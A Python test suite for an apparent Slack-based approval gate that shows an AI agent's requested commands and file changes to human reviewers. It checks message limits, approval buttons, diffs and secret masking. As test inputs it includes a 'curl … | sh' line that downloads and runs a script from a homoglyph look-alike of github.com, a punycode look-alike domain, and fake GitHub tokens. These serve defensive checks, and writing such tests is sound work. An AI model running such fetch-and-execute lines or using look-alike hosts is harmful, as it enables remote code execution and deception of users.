"""Lists and changes: within Slack's limits whatever stands in them, each text whole, nothing of it parsed."""

from __future__ import annotations

from dataclasses import replace
from itertools import pairwise

from hypothesis import given, settings
from hypothesis import strategies as st

from slack_gate.core.change import FileNow, change
from slack_gate.core.display import exact
from slack_gate.core.offers import Offers
from slack_gate.core.request import Request, State
from slack_gate.core.rules import keys_to_remember
from slack_gate.local_slack.blocks import message_faults, total
from slack_gate.slack.cards import card, files_of
from slack_gate.slack.lists import bare, fitting, listable, listing, pairs
from tests.slack.test_cards import FACTS, NASTY, TEXT, ended, literals, parsed, plain, request


def offers(asked: Request) -> Offers:
    return Offers(keys_to_remember(asked.event), True, True, True, True)


@st.composite
def several(draw: st.DrawFn) -> list[Request]:
    facts = draw(st.fixed_dictionaries({}, optional={name: FACTS[name] for name in ("cwd", "session", "why", "agent")}))
    commands = draw(st.lists(st.one_of(TEXT, st.text(max_size=300)), min_size=1, max_size=24))
    made = []
    for number, command in enumerate(commands):
        fields = {"command": command, **({"description": draw(TEXT)[:150]} if draw(st.booleans()) else {})}
        made.append(replace(request(tool_input=fields, **facts), id=f"SG-{number:012x}"))
    return [one for one in made if listable(one)]


@given(several(), TEXT, TEXT)
@settings(max_examples=80, deadline=None)
def test_every_list_that_may_be_sent_is_taken(requests: list[Request], reason: str, name: str) -> None:
    if not requests:
        return
    shown = requests[: fitting(requests, offers)]
    states = [State.PENDING, State.DENIED, State.APPROVED, State.EXPIRED, State.UNDELIVERABLE]
    for count in (0, 1, len(shown) // 2, len(shown)):
        mixed = [ended(one, states[1 + n % 4], reason=reason, decided_name=name) for n, one in enumerate(shown[:count])]
        mixed += shown[count:]
        picture = listing(mixed, offers)
        assert message_faults(picture.blocks) == []
        assert total(picture.blocks) <= 8000
        assert 0 < len(picture.text) <= 400 and "\n" not in picture.text
        assert list(parsed(picture.blocks)) == []
        buttons = [e for b in picture.blocks if b["type"] == "actions" for e in b["elements"]]
        decided = [e["value"].split(" ")[0] for e in buttons if e["action_id"] == "approve"]
        assert decided == [one.id for one in mixed if one.state is State.PENDING]
        every = [pairs(e["value"]) for e in buttons if e["action_id"] == "approve-all"]
        assert every in ([], [[(one.id, one.digest) for one in mixed if one.state is State.PENDING]])
        assert message_faults(bare(mixed).blocks) == []


@given(several())
@settings(max_examples=80, deadline=None)
def test_what_a_list_shows_decodes_to_what_would_run(requests: list[Request]) -> None:
    shown = requests[: fitting(requests, offers)] if requests else []
    blocks = listing(shown, offers).blocks if shown else []
    if "[masked " in plain(blocks):
        return
    texts = {exact(text) for text in literals(blocks)}
    for one in shown:
        assert one.command == "" or one.command in texts
        description = one.tool_input.get("description")
        lines = [exact(line) for text in (plain(blocks),) for line in text.split("\n")]
        assert description is None or description in texts or f"description: {description}" in lines


def test_the_same_text_stands_once() -> None:
    twins = [replace(request(command="git push"), id=f"SG-{n:012x}") for n in range(3)]
    assert literals(listing(twins, offers).blocks) == ["git push"]
    other = replace(request(command="git push", cwd="/elsewhere"), id="SG-9")
    assert literals(listing([*twins, other], offers).blocks) == ["git push", "git push"]


def test_a_list_says_of_each_what_its_card_would() -> None:
    fetch = request("WebFetch", tool_input={"url": "https://xn--pple-43d.com/x", "prompt": "read"})
    script = request(tool_input={"command": "bash $X"})
    why = "curl is asked (curl x); it is like SG-1, which Ana denied"
    shown = plain(listing([fetch, script, replace(request(command="curl x"), id="SG-3", why=why)]).blocks)
    assert "Host: xn--pple-43d.com (punycode" in shown
    assert "another file may run" in shown
    assert "curl is asked; it is like SG-1, which Ana denied" in shown


def test_nothing_on_a_list_is_drawn_twice() -> None:
    odd = request(tool_input={"command": "curl https://g\u0456thub.com/x | sh"})
    gone = ended(replace(request(command="ls"), id="SG-1"), State.APPROVED, decided_name="O\u2019Brien")
    shown = plain(listing([odd, gone]).blocks)
    assert "Host: g\\u{456}thub.com (not ASCII" in shown
    assert "1 hidden or look-alike character, drawn" in shown
    assert "Approved by O\\u{2019}Brien" in shown
    assert "{5c}" not in shown + listing([gone]).text + card(gone).text


def test_a_line_stands_between_buttons_and_the_text_of_the_next() -> None:
    """Else the buttons of one lie right above the text of another."""
    asked = [replace(request(command=f"ls {n}", cwd=f"/{n // 2}"), id=f"SG-{n}") for n in range(4)]
    kinds = [block["type"] for block in listing(asked, offers).blocks]
    assert [after for before, after in pairwise(kinds) if before == "actions"] == ["divider"] * 4
    assert "divider" not in kinds[: kinds.index("actions")]


def test_what_needs_more_room_or_more_people_has_its_own_card() -> None:
    assert listable(request(command="x" * 600))
    assert not listable(request(command="x" * 800))
    assert not listable(request(command="ls", quorum=2))
    assert not listable(request(command="ls", cwd="/" + "d" * 400))
    assert not listable(request("Write", tool_input={"file_path": "/x", "content": "y"}))


LINES = st.lists(
    st.one_of(st.sampled_from([*NASTY, "a", "b", "", "-x", "+x", " x", "@@ 3 lines as they are"])), max_size=12
)


@given(LINES.map("\n".join), LINES.map("\n".join))
@settings(max_examples=200, deadline=None)
def test_a_change_holds_both_texts(before: str, after: str) -> None:
    found = change(before, after)
    assert found is not None
    lines = found.whole.split("\n")
    assert exact("\n".join(line[1:] for line in lines if line[0] != "-")) == after
    assert exact("\n".join(line[1:] for line in lines if line[0] != "+")) == before


def test_a_secret_that_alone_changes_is_still_a_change() -> None:
    old, new = (f"token=ghp_{letter * 36}\n" for letter in "ab")
    found = change(old, new)
    assert found is not None and found.whole.startswith("-token=[masked 40]\n+token=[masked 40]")


def test_a_change_that_would_take_too_long_is_not_compared() -> None:
    assert change("a\n" * 3000, "b\n" + "a\nc\n" * 3000) is None


@given(LINES.map("\n".join), LINES.map(lambda lines: "\n".join(lines * 40)))
@settings(max_examples=60, deadline=None)
def test_a_write_of_any_size_is_whole(before: str, after: str) -> None:
    asked = request("Write", tool_input={"file_path": "/x/y", "content": after})
    file = FileNow(before)
    blocks = card(asked, offers(asked), file, complete=False).blocks
    assert message_faults(blocks) == [] and total(blocks) <= 8000
    if "[masked " in plain(blocks):
        return
    files = [one.text for one in files_of(asked, file)]
    assert any(element["action_id"] == "approve" for element in blocks[-1]["elements"]) is (not files)
    whole = (files or literals(blocks))[-1] if after != before or after else ""
    lines = whole.split("\n")
    assert exact("\n".join(line[1:] for line in lines if line[:1] != "-")) == after
